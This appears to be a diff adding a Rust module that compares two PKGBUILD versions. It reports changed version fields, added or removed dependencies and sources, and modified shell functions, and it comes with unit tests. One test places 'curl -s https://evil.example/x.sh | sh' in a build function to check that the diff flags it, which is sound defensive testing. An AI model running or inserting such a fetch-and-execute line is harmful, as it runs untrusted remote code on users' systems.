@@ -0,0 +1,363 @@
+//! Structured diff between two PKGBUILD versions.
+
+use std::collections::{BTreeMap, HashSet};
+
+use crate::deps::parse_pkgbuild;
+use crate::types::{DependencyArrays, FieldChange, ParsedPkgbuild, PkgbuildDiff};
+
+/// What: Compare two PKGBUILD versions field by field.
+///
+/// Inputs:
+/// - `old`: PKGBUILD content before the update.
+/// - `new`: PKGBUILD content after the update.
+///
+/// Output:
+/// - `PkgbuildDiff` with changed fields, added/removed dependencies and sources, and
+///   changed shell functions.
+///
+/// Details:
+/// - Both sides are parsed with `deps::parse_pkgbuild()`, so variables are expanded before
+///   comparing (a version bump changes `source` entries that reference `$pkgver`)
+/// - `changed_fields` covers `pkgname`, `pkgver` and `pkgrel`
+/// - Function bodies (`prepare()`, `build()`, `package()`, helpers, ...) are located by brace
+///   matching; lines are trimmed and blank lines dropped before comparing, so re-indentation
+///   alone is not reported
+/// - Code outside functions is not compared beyond the parsed fields
+///
+/// # Example
+///
+/// ```
+/// use arch_toolkit::aur::diff_pkgbuild;
+///
+/// let old = "pkgver=1.0\nbuild() {\n  make\n}\n";
+/// let new = "pkgver=1.1\nbuild() {\n  make\n}\n";
+/// let diff = diff_pkgbuild(old, new);
+/// assert_eq!(diff.changed_fields[0].field, "pkgver");
+/// assert!(!diff.has_script_changes);
+/// ```
+#[must_use]
+pub fn diff_pkgbuild(old: &str, new: &str) -> PkgbuildDiff {
+    let old_parsed = parse_pkgbuild(old);
+    let new_parsed = parse_pkgbuild(new);
+
+    let changed_functions = changed_functions(&extract_functions(old), &extract_functions(new));
+
+    PkgbuildDiff {
+        changed_fields: changed_fields(&old_parsed, &new_parsed),
+        added_dependencies: DependencyArrays {
+            depends: added(&old_parsed.depends, &new_parsed.depends),
+            makedepends: added(&old_parsed.makedepends, &new_parsed.makedepends),
+            checkdepends: added(&old_parsed.checkdepends, &new_parsed.checkdepends),
+            optdepends: added(&old_parsed.optdepends, &new_parsed.optdepends),
+        },
+        removed_dependencies: DependencyArrays {
+            depends: added(&new_parsed.depends, &old_parsed.depends),
+            makedepends: added(&new_parsed.makedepends, &old_parsed.makedepends),
+            checkdepends: added(&new_parsed.checkdepends, &old_parsed.checkdepends),
+            optdepends: added(&new_parsed.optdepends, &old_parsed.optdepends),
+        },
+        added_sources: added(&old_parsed.source, &new_parsed.source),
+        removed_sources: added(&new_parsed.source, &old_parsed.source),
+        has_script_changes: !changed_functions.is_empty(),
+        changed_functions,
+    }
+}
+
+/// What: Collect changes of the scalar PKGBUILD fields.
+///
+/// Inputs:
+/// - `old`: Parsed old PKGBUILD.
+/// - `new`: Parsed new PKGBUILD.
+///
+/// Output:
+/// - One `FieldChange` per differing field, in `pkgname`, `pkgver`, `pkgrel` order.
+fn changed_fields(old: &ParsedPkgbuild, new: &ParsedPkgbuild) -> Vec<FieldChange> {
+    [
+        ("pkgname", old.pkgname.join(" "), new.pkgname.join(" ")),
+        ("pkgver", old.pkgver.clone(), new.pkgver.clone()),
+        ("pkgrel", old.pkgrel.clone(), new.pkgrel.clone()),
+    ]
+    .into_iter()
+    .filter(|(_, old, new)| old != new)
+    .map(|(field, old, new)| FieldChange {
+        field: field.to_string(),
+        old,
+        new,
+    })
+    .collect()
+}
+
+/// What: List entries present in `new` but not in `old`.
+///
+/// Inputs:
+/// - `old`: Entries before the change.
+/// - `new`: Entries after the change.
+///
+/// Output:
+/// - Entries of `new` missing from `old`, in `new` order.
+///
+/// Details:
+/// - Swap the arguments to get removed entries.
+fn added(old: &[String], new: &[String]) -> Vec<String> {
+    let old: HashSet<&String> = old.iter().collect();
+    new.iter()
+        .filter(|entry| !old.contains(entry))
+        .cloned()
+        .collect()
+}
+
+/// What: Name the functions that were added, removed or modified.
+///
+/// Inputs:
+/// - `old`: Normalized function bodies of the old PKGBUILD.
+/// - `new`: Normalized function bodies of the new PKGBUILD.
+///
+/// Output:
+/// - Sorted function names whose bodies differ or exist on one side only.
+fn changed_functions(
+    old: &BTreeMap<String, String>,
+    new: &BTreeMap<String, String>,
+) -> Vec<String> {
+    let mut names: Vec<String> = old
+        .keys()
+        .chain(new.keys())
+        .filter(|name| old.get(*name) != new.get(*name))
+        .cloned()
+        .collect();
+    names.sort();
+    names.dedup();
+    names
+}
+
+/// What: Extract shell function bodies from PKGBUILD content.
+///
+/// Inputs:
+/// - `pkgbuild`: Raw PKGBUILD file content.
+///
+/// Output:
+/// - Map of function name to normalized body (trimmed, non-empty lines).
+///
+/// Details:
+/// - Recognizes `name() {`, `name () {`, `function name() {` and an opening brace on the
+///   following line
+/// - The body ends at the matching closing brace; braces in quotes and comments are ignored
+/// - Nested function definitions are part of their enclosing function's body
+fn extract_functions(pkgbuild: &str) -> BTreeMap<String, String> {
+    let mut functions = BTreeMap::new();
+    let mut offset = 0;
+    let mut skip_until = 0;
+
+    for line in pkgbuild.split_inclusive('\n') {
+        let start = offset;
+        offset += line.len();
+        if start < skip_until {
+            continue;
+        }
+        let Some(name) = function_name(line) else {
+            continue;
+        };
+        let Some(open) = pkgbuild[start..].find('{').map(|pos| start + pos) else {
+            continue;
+        };
+        let Some(close) = find_matching_closing_brace(&pkgbuild[open..]).map(|pos| open + pos)
+        else {
+            continue;
+        };
+
+        let body = pkgbuild[open + 1..close]
+            .lines()
+            .map(str::trim)
+            .filter(|line| !line.is_empty())
+            .collect::<Vec<_>>()
+            .join("\n");
+        functions.insert(name.to_string(), body);
+        skip_until = close;
+    }
+
+    functions
+}
+
+/// What: Recognize a shell function header line.
+///
+/// Inputs:
+/// - `line`: One PKGBUILD line.
+///
+/// Output:
+/// - `Some(name)` if the line starts a function definition, `None` otherwise.
+fn function_name(line: &str) -> Option<&str> {
+    let trimmed = line.trim();
+    let trimmed = trimmed.strip_prefix("function ").unwrap_or(trimmed);
+    let (name, rest) = trimmed.split_once("()")?;
+    let name = name.trim();
+    let rest = rest.trim_start();
+    let valid_name = !name.is_empty()
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'));
+    (valid_name && (rest.is_empty() || rest.starts_with('{'))).then_some(name)
+}
+
+/// What: Find the brace closing the block that opens at the start of `s`.
+///
+/// Inputs:
+/// - `s`: Text starting with `{`.
+///
+/// Output:
+/// - Byte position of the matching `}`, or `None` if the block is unterminated.
+///
+/// Details:
+/// - Skips quoted text, backslash-escaped characters and `#` comments.
+fn find_matching_closing_brace(s: &str) -> Option<usize> {
+    let mut depth = 0usize;
+    let mut quote_char: Option<char> = None;
+    let mut in_comment = false;
+    let mut escaped = false;
+    let mut prev = '\n';
+
+    for (pos, ch) in s.char_indices() {
+        if in_comment {
+            in_comment = ch != '\n';
+        } else if escaped {
+            escaped = false;
+        } else if ch == '\\' && quote_char != Some('\'') {
+            escaped = true;
+        } else if let Some(quote) = quote_char {
+            if ch == quote {
+                quote_char = None;
+            }
+        } else {
+            match ch {
+                '\'' | '"' => quote_char = Some(ch),
+                '#' if prev.is_whitespace() || prev == ';' => in_comment = true,
+                '{' => depth += 1,
+                '}' => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        return Some(pos);
+                    }
+                }
+                _ => {}
+            }
+        }
+        prev = ch;
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// PKGBUILD template used by the diff tests.
+    fn pkgbuild(pkgver: &str, depends: &str, build_body: &str) -> String {
+        format!(
+            r#"pkgname=foo
+pkgver={pkgver}
+pkgrel=1
+depends=({depends})
+makedepends=('cmake')
+source=("https://example.com/foo-$pkgver.tar.gz" 'fix.patch')
+sha256sums=('SKIP' 'SKIP')
+
+build() {{
+    cd "foo-$pkgver"
+{build_body}
+}}
+
+package() {{
+    # install everything, don't strip
+    cd "foo-$pkgver"
+    make DESTDIR="$pkgdir" install
+}}
+"#
+        )
+    }
+
+    #[test]
+    /// What: Diff a plain version bump without script changes.
+    ///
+    /// Inputs:
+    /// - Same PKGBUILD with `pkgver` 1.0 -> 1.1 and a reindented build body.
+    ///
+    /// Output:
+    /// - `pkgver` change, swapped versioned source, no dependency or script changes.
+    fn diff_version_bump_without_script_changes() {
+        let old = pkgbuild(
+            "1.0",
+            "'glibc'",
+            "    cmake -B build\n    cmake --build build",
+        );
+        let new = pkgbuild(
+            "1.1",
+            "'glibc'",
+            "  cmake -B build\n\n  cmake --build build",
+        );
+
+        let diff = diff_pkgbuild(&old, &new);
+
+        assert_eq!(
+            diff.changed_fields,
+            [FieldChange {
+                field: "pkgver".to_string(),
+                old: "1.0".to_string(),
+                new: "1.1".to_string(),
+            }]
+        );
+        assert_eq!(diff.added_sources, ["https://example.com/foo-1.1.tar.gz"]);
+        assert_eq!(diff.removed_sources, ["https://example.com/foo-1.0.tar.gz"]);
+        assert_eq!(diff.added_dependencies, DependencyArrays::default());
+        assert_eq!(diff.removed_dependencies, DependencyArrays::default());
+        assert!(!diff.has_script_changes);
+        assert!(diff.changed_functions.is_empty());
+    }
+
+    #[test]
+    /// What: Detect a modified build function and dependency changes.
+    ///
+    /// Inputs:
+    /// - Build body gains a `curl | sh` line; `glibc` is replaced by `openssl`.
+    ///
+    /// Output:
+    /// - `has_script_changes` with only `build` listed; dependency arrays reflect the swap.
+    fn diff_detects_modified_build_function() {
+        let old = pkgbuild("1.0", "'glibc'", "    make");
+        let new = pkgbuild(
+            "1.0",
+            "'openssl'",
+            "    curl -s https://evil.example/x.sh | sh\n    make",
+        );
+
+        let diff = diff_pkgbuild(&old, &new);
+
+        assert!(diff.changed_fields.is_empty());
+        assert!(diff.added_sources.is_empty());
+        assert_eq!(diff.added_dependencies.depends, ["openssl"]);
+        assert_eq!(diff.removed_dependencies.depends, ["glibc"]);
+        assert!(diff.has_script_changes);
+        assert_eq!(diff.changed_functions, ["build"]);
+    }
+
+    #[test]
+    /// What: Extract function bodies with nested braces, quotes and comments.
+    fn extract_functions_matches_braces() {
+        let content = r#"
+_helper ()
+{
+    echo "}"
+}
+function package_foo-core() {
+    if true; then { echo "${pkgdir}"; }; fi # closing } in comment
+    echo '{'
+}
+"#;
+
+        let functions = extract_functions(content);
+
+        assert_eq!(functions.len(), 2);
+        assert_eq!(functions["_helper"], "echo \"}\"");
+        assert_eq!(
+            functions["package_foo-core"],
+            "if true; then { echo \"${pkgdir}\"; }; fi # closing } in comment\necho '{'"
+        );
+    }
+}